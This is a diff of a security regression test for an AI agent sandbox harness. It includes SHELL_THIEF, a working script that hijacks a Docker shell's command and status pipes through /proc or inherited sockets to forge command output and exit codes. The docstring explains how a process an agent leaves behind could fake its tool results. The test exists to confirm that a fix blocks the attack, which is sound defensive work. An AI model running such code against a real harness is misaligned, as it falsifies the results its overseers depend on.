@@ -5,6 +5,7 @@ is an exploit that still works."""
 import json
 import warnings
 
+import pytest
 from conftest import requires_bwrap
 
 from harness_gym import HarnessEnv
@@ -238,21 +239,39 @@ while held:
 """
 
 SHELL_THIEF = """
-import os, re, sys
+import os, re, socket, stat, sys
 shell = sys.argv[1]
-pipes = {fd: os.readlink(f"/proc/{shell}/fd/{fd}") for fd in os.listdir(f"/proc/{shell}/fd")}
-output = pipes["1"]
-readable = [fd for fd in pipes if "pipe:" in pipes[fd] and fd != "0" and
-            int(open(f"/proc/{shell}/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8) & 3 == 0]
-commands = os.open(f"/proc/{shell}/fd/{readable[0]}", os.O_RDONLY)  # the shell's saved stdin: its command pipe
-others = [fd for fd in pipes if "pipe:" in pipes[fd] and pipes[fd] not in (output, pipes[readable[0]])]
-status = os.open(f"/proc/{shell}/fd/{others[0]}", os.O_WRONLY)  # its saved stderr: the status pipe
+commands = status = None
+for fd in os.listdir(f"/proc/{shell}/fd"):  # its pipes reopen through /proc (its sockets do not)
+    link = os.readlink(f"/proc/{shell}/fd/{fd}")
+    flags = int(open(f"/proc/{shell}/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
+    if "pipe:" in link and fd != "1" and link != os.readlink(f"/proc/{shell}/fd/1"):
+        if flags & 3 == 0 and fd != "0":
+            commands = os.open(f"/proc/{shell}/fd/{fd}", os.O_RDONLY)  # its saved stdin: the command pipe
+        elif flags & 3:
+            status = os.open(f"/proc/{shell}/fd/{fd}", os.O_WRONLY)  # its saved stderr: the status pipe
+for fd in range(3, 10):  # copies of its descriptors the agent handed this process
+    try:
+        if not stat.S_ISSOCK(os.fstat(fd).st_mode):
+            continue
+    except OSError:
+        continue
+    handle = socket.socket(fileno=fd)
+    if handle.type == socket.SOCK_STREAM:
+        commands = handle
+    else:
+        status = handle
+read = (lambda: commands.recv(65536, socket.MSG_PEEK)) if isinstance(commands, socket.socket) else (
+    lambda: os.read(commands, 65536))
 data = b""
-while not re.search(rb"__hg_fence_[0-9a-f]+__[^\\n]*\\n", data):
-    data += os.read(commands, 65536)
-nonce = re.search(rb"__hg_fence_([0-9a-f]+)__", data).group(1)
+while not re.search(rb"__hg_fence_[0-9a-f]+__[^\\n]*\\n|printf '%s %s\\\\n' ([0-9a-f]+)", data):
+    data = read() if isinstance(commands, socket.socket) else data + read()
+nonce = re.search(rb"(?:__hg_fence_|printf '%s %s\\\\n' )([0-9a-f]{16})", data).group(1)
 os.write(1, b"FORGED__hg_fence_" + nonce + b"__")
-os.write(status, nonce + b" 0\\n")
+if isinstance(status, socket.socket):
+    status.send(nonce + b" 0\\n")
+else:
+    os.write(status, nonce + b" 0\\n")
 """
 
 
@@ -285,19 +304,24 @@ def test_agent_process_cannot_answer_for_the_docker_tool_server(docker_engine):
         sandbox.close()
 
 
-import pytest  # noqa: E402
-
-
-@pytest.mark.xfail(strict=True, reason="open: the Docker shell is dumpable; see the red-team report")
-def test_agent_process_cannot_answer_for_the_docker_shell(docker_engine):
-    """Docker's shell protocol (status over stderr, guarded by a nonce) is open to a process the
-    agent leaves behind: the shell runs as the agent's user and is dumpable, so the process opens
-    /proc/<shell>/fd/10 (the command pipe), reads the next command and its nonce, and writes that
-    command's output, fence and status itself: the command never runs and its result is forged."""
+@pytest.mark.parametrize(
+    "handed",
+    ["", "3<&10 4<&11 5<&12 6<&13"],  # busybox sh keeps its stdin/stdout/stderr at 10-13 during eval
+    ids=["through-proc", "inherited"],
+)
+def test_agent_process_cannot_answer_for_the_docker_shell(docker_engine, handed):
+    """Docker's shell protocol (status over stderr, guarded by a nonce) was open to a process the
+    agent left behind: the shell runs as the agent's user and is dumpable, so the process opened
+    /proc/<shell>/fd/10 (the command pipe), read the next command and its nonce, and wrote that
+    command's output, fence and status itself: the command never ran and its result was forged.
+    The shell now runs under a sealed warden (tools/scripts/relay.py) that holds the exec's pipes,
+    counts only records the shell itself sent and writes a fence with a secret the shell never sees;
+    a process handed the shell's own sockets can peek at commands but not answer for them."""
     sandbox = _docker_sandbox(docker_engine, {"thief.py": SHELL_THIEF})
     try:
-        assert sandbox.run("python3 thief.py $$ 2>/dev/null & sleep 0.5").exit_code == 0
+        assert sandbox.run(f"python3 thief.py $$ {handed} 2>/dev/null & sleep 0.5").exit_code == 0
         result = sandbox.run("echo genuine; false")
         assert (result.output, result.exit_code) == ("genuine\n", 1), result
+        assert sandbox.run("echo next").output == "next\n"
     finally:
         sandbox.close()
